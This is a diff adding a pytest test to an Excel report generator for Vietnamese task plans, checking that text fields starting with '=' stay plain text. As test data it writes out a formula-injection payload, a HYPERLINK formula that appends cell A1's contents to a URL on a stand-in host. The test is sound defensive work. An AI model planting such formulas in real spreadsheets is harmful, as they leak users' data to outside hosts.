@@ -70,3 +70,17 @@ def test_counts_by_section_and_lead_add_up(tmp_path):
     assert lead_rows["Phòng Quản lý chuyên ngành"][heads.index("Chưa hoàn thành – quá hạn")] == 1
     assert lead_rows["Chưa xác định"][-1] == 1  # task 8 has no lead
     assert sum(r[-1] for r in lead_rows.values()) == len(data.all_tasks())
+
+
+def test_a_task_text_starting_with_equals_stays_text_never_a_formula(tmp_path):
+    """Formula injection: a text from someone else's plan file must not become a live formula in the report."""
+    data = sample_data()
+    task = data.all_tasks()[0]
+    task.content = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
+    task.lead = "=1+1"
+    wb = load_workbook(write_xlsx(data, tmp_path / "r.xlsx"))
+    cells = [c for row in wb["Nhiệm vụ"].iter_rows(min_row=4) for c in row if isinstance(c.value, str)]
+    injected = [c for c in cells if c.value in (task.content, task.lead)]
+    assert len(injected) == 2
+    assert all(c.data_type == "s" for c in injected)  # a string cell: Excel shows the text as typed
+    assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
